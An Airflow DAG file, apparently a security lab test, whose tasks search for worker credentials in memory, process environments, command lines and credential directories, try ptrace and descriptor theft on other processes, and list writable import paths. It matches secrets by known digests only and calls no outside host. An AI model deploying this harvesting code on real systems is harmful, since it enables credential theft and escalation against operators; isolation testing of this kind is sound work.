"""A task that tries everything to get hold of the credentials of its worker."""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import re
from contextlib import suppress
from pathlib import Path

from airflow.sdk import DAG, Param, task

CANDIDATE = re.compile(rb"[A-Za-z0-9_-]{16,128}")
CHUNK = 1 << 22
DIRECTORIES = ("/etc/airflow", "/var/lib/airflow", "/var/log/airflow", "/run/credentials", "/dev/shm", "/tmp")  # noqa: S108
# From linux/prctl.h, linux/ptrace.h, and the number of a system call.
PR_SET_DUMPABLE = 4
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PIDFD_GETFD = 438

libc = ctypes.CDLL(None)


def search(data: bytes, digests: dict[str, str]) -> set[str]:
    """Return the names of the secrets in the data, which are known by digests: the task itself has none."""
    hashes = (hashlib.sha256(candidate).hexdigest() for candidate in set(CANDIDATE.findall(data)))
    return {digests[digest] for digest in hashes if digest in digests}


def search_file(path: Path, digests: dict[str, str]) -> set[str]:
    with suppress(OSError):
        if path.is_file() and path.stat().st_size < 1 << 26:
            return search(path.read_bytes(), digests)
    return set()


def search_memory(pid: int, digests: dict[str, str]) -> set[str]:
    found: set[str] = set()
    with suppress(OSError), Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            addresses, permissions = line.split()[:2]
            start, end = (int(address, 16) for address in addresses.split("-"))
            if not permissions.startswith("rw") or len(found) == len(digests):
                continue
            for position in range(start, end, CHUNK):
                with suppress(OSError, OverflowError):
                    memory.seek(position)
                    found |= search(memory.read(min(CHUNK, end - position)), digests)
    return found


def is_traceable(pid: int) -> bool:
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0):
        return False
    os.waitpid(pid, 0x40000000)  # __WALL
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    return True


def takes_descriptors(pid: int) -> bool:
    handle = os.pidfd_open(pid)
    try:
        copies = [copy for fd in range(64) if (copy := libc.syscall(PIDFD_GETFD, handle, fd, 0)) >= 0]
    finally:
        os.close(handle)
    for copy in copies:
        os.close(copy)
    return bool(copies) or os.access(f"/proc/{pid}/fd", os.R_OK)


def processes() -> dict[int, str]:
    """Return the other processes of the same user, as numbers and titles."""
    found = {}
    for path in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if f"\nUid:\t{os.getuid()}\t" in (path / "status").read_text() and int(path.name) != os.getpid():
                found[int(path.name)] = (path / "cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
    return found


def attack(digests: dict[str, str]) -> str:
    """Return, as JSON, where which secrets are, and what else is open."""
    # Of its own memory a task decides itself.
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    others = processes()
    found = {
        "environment": search("\n".join(os.environ.values()).encode(), digests),
        "own environ": search_file(Path("/proc/self/environ"), digests),
        "own memory": search_memory(os.getpid(), digests),
        "files": set(),
        "environ": set(),
        "arguments": set(),
        "memory": set(),
        "traceable": {title for pid, title in others.items() if is_traceable(pid)},
        "descriptors": {title for pid, title in others.items() if takes_descriptors(pid)},
    }
    for pid in others:
        found["environ"] |= search_file(Path(f"/proc/{pid}/environ"), digests)
        found["arguments"] |= search_file(Path(f"/proc/{pid}/cmdline"), digests)
        found["memory"] |= search_memory(pid, digests)
    for directory in DIRECTORIES:
        for path in Path(directory).rglob("*"):
            found["files"] |= search_file(path, digests)
    # Where the worker imports from: its working directory, and Airflow's directory for settings.
    main = next(iter(sorted(others)), None)
    writable = {
        str(path)
        for path in (Path(os.environ["AIRFLOW_HOME"], "config"), Path(f"/proc/{main}/cwd"))
        if os.access(path, os.W_OK)
    }
    return json.dumps(
        {"processes": sorted(others.values()), "writable": sorted(writable)}
        | {place: sorted(what) for place, what in found.items() if what}
    )


with DAG(
    "lab_credentials",
    description="What tasks of the workers of two queues find",
    schedule=None,
    params={"digests": Param({}, type="object")},
    is_paused_upon_creation=False,
    tags=["lab"],
):
    for queue in ("default", "heavy"):

        @task(task_id=queue, queue=queue)
        def steal(params: dict[str, dict[str, str]]) -> str:
            return attack(params["digests"])

        steal()
